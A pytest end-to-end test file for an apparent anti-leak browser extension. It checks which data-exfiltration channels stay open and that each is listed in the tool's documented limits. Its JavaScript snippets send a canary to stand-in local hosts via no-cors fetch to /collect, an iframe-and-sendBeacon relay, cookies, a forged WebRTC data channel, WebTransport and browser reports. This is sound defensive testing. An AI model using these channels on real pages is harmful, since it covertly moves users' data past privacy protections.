"""Ways out that stay open, each shown to be open and each named in the limits; and two that
look alike but are closed.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from companion.demo.browser import extension_folder, find
from tests.canary import Canary
from tests.e2e.browser import worker
from tests.evasion.rig import RUN, chromium, order
from tests.evasion.site import CanarySite

LIMITS = Path(__file__).parents[2] / "docs" / "what-it-does-not-cover.md"
PATIENCE = 6.0
FLAGS = ("--short-reporting-delay", "--enable-features=WebTransport")

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(find() is None, reason="needs Chromium: `make system` installs it"),
]

PEER = """async (t) => {
    const line = new RTCPeerConnection();
    line.createDataChannel('x');
    await line.setLocalDescription(await line.createOffer());
    await line.setRemoteDescription({type: 'answer', sdp: [
        'v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
        'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 127.0.0.1', 'a=mid:0',
        `a=ice-ufrag:${t.word}`, `a=ice-pwd:${'x'.repeat(24)}`,
        `a=fingerprint:sha-256 ${Array(32).fill('00').join(':')}`, 'a=setup:active',
        'a=sctp-port:5000', `a=candidate:1 1 udp 1 127.0.0.1 ${t.port} typ host`, '',
    ].join('\\r\\n')});
}"""
OPEN = {
    "another address of the site, asked": (
        "(t) => fetch(`/demo/other?${t.word}`)",
        "GET requests of a protected site",
    ),
    "another address of the site, told": (
        "(t) => fetch('/demo/other', t.post)",
        "Other endpoints of a known site",
    ),
    "another host": (
        "(t) => fetch(`http://127.0.0.2:${t.port}/collect`, {...t.post, mode: 'no-cors'})",
        "Other hosts",
    ),
    "another host that relays": (
        """(t) => {
            const [frame, code] = [t.make('iframe', {src: `http://127.0.0.2:${t.port}/x`}), t.word];
            frame.src += `#${code}`;
            frame.name = code;
            document.body.append(frame);
            navigator.sendBeacon(`http://127.0.0.2:${t.port}/relay`, t.body);
        }""",
        "Other hosts",
    ),
    "a cookie for the rest of the site": (
        """(t) => {
            document.cookie = `${t.word}=1; path=/`;
            return fetch('/demo/other');
        }""",
        "Cookies",
    ),
}


@pytest.fixture(scope="module")
def protected(playwright, tmp_path_factory):
    folder = tmp_path_factory.mktemp("profile")
    with chromium(playwright, folder, extensions=[extension_folder()], flags=FLAGS) as opened:
        worker(opened)
        yield opened


@pytest.fixture(scope="module")
def bare(playwright, tmp_path_factory):
    with chromium(playwright, tmp_path_factory.mktemp("bare"), flags=FLAGS) as opened:
        yield opened


@pytest.fixture
def site():
    with CanarySite() as listening:
        yield listening


def tried(context, site, code, what, seconds=PATIENCE):
    """Try a trick until something is true or the time is over, and say which."""
    canary = Canary.fresh()
    page = context.new_page()
    page.goto(site.url)
    page.evaluate(RUN, order(site, [(code, canary.word)]))
    deadline = time.monotonic() + seconds
    while not (found := what(canary)) and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    page.close()
    return bool(found)


@pytest.mark.parametrize("name", OPEN)
def test_it_stays_open_and_the_limits_say_so(name, protected, site):  # threat 2
    code, anchor = OPEN[name]
    assert tried(protected, site, code, lambda canary: site.seen(canary) == (False, True))
    assert f"**{anchor}" in LIMITS.read_text(encoding="utf-8")


def test_a_peer_connection_stays_open_and_the_limits_say_so(protected, site):  # threat 2
    def heard(canary):
        return any(canary.word.encode() in each for each in site.datagrams)

    assert tried(protected, site, PEER, heard)
    assert "**WebRTC" in LIMITS.read_text(encoding="utf-8")


TRANSPORT = "(t) => new WebTransport(`https://127.0.0.1:${t.port}${t.path}?${t.word}`).ready"


def test_web_transport_to_the_endpoint_is_closed(protected, bare, site):  # threat 1
    with CanarySite() as other:
        assert tried(bare, other, TRANSPORT, lambda _: other.datagrams), "it proves nothing"
    assert not tried(protected, site, TRANSPORT, lambda _: site.datagrams, seconds=2.0)


REPORT = """(t) => t.loaded({src: '/demo/reports'}, (w) => {
    w.document.body.innerHTML = `<img src="http://localhost:${t.port}/${t.word}">`;
})"""


def test_reports_of_the_browser_to_the_endpoint_need_https_and_are_named(
    protected, site
):  # threat 2
    """The browser's own reporting asks no extension; over plain HTTP it does not report."""
    assert not tried(protected, site, REPORT, lambda canary: site.seen(canary)[0], seconds=2.0)
    assert "**Reports of the browser itself" in LIMITS.read_text(encoding="utf-8")
